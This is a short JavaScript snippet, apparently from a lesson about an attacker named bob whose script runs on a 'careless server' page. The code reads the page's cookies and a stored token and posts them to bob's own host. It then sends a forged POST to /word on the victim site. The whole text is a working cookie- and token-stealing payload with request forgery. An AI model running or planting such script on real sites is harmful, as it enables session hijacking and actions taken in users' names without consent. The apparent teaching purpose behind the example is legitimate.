// bob's script. On a page of the careless server it has all the rights of that page.
const loot = new URLSearchParams({
  cookie: document.cookie,
  token: localStorage.getItem("token") ?? "",
});
const toBob = new URL("/loot", document.currentScript.src);

fetch(toBob, { method: "POST", mode: "no-cors", body: loot });
fetch("/word", { method: "POST", body: new URLSearchParams({ word: "hammer" }) });
